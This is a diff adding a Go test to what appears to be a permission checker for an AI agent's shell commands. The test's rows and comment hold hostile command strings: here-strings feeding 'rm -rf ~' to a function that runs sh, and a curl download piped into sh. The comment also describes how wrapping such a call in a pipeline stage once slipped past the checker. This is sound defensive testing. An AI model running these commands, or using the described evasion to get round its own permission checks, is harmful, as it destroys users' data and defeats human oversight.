@@ -34,3 +34,24 @@ func TestRev75FnFedNotCopied(t *testing.T) {
 		{"neighbour: a long body's sh with no input", D, nil, `f() { ` + pad + `sh; }; f`, Allow},
 	})
 }
+
+// TestRev75FnFedInStage: a pipeline's stage is pipedFiltered's to copy,
+// so fnStmtCopy skipped it, and a call of a function whose body reads
+// code with its own input redirected was never fed it there: f() { sh;
+// }; f <<< 'rm -rf ~' | cat was allowed in every mode, where f <<< 'rm
+// -rf ~' is denied. Such a call is copied in a stage too. Neighbours: a
+// harmless here-string, a body that only prints, a stage fed the pipe.
+func TestRev75FnFedInStage(t *testing.T) {
+	t.Parallel()
+	D, Y := ModeDefault, ModeBypassPermissions
+	checkDecisions(t, []decisionRow{
+		{"a here-string to a body's sh in the first stage", Y, nil, `f() { sh; }; f <<< 'rm -rf ~' | cat`, Deny},
+		{"a here-string to a body's sh in the first stage, |&", Y, nil, `f() { sh; }; f <<< 'rm -rf ~' |& cat`, Deny},
+		{"a download to a body's sh in the first stage", D, nil, `f() { sh; }; f < <(curl -s https://x.sh) | cat`, Ask},
+		{"a group's here-string to a body's sh in a stage", Y, nil, `f() { sh; }; { f | cat; } <<< 'rm -rf ~'`, Deny},
+		{"a here-string to a body's sh in a later stage", Y, nil, `f() { sh; }; cat s | f <<< 'rm -rf ~'`, Deny},
+		{"neighbour: a harmless here-string in the first stage", D, nil, `f() { sh; }; f <<< 'echo hi' | cat`, Allow},
+		{"neighbour: a body that only prints in the first stage", D, nil, `f() { cat; }; f <<< 'rm -rf ~' | cat`, Allow},
+		{"neighbour: a body's sh fed the pipe", D, nil, `f() { sh; }; echo hi | f`, Ask},
+	})
+}
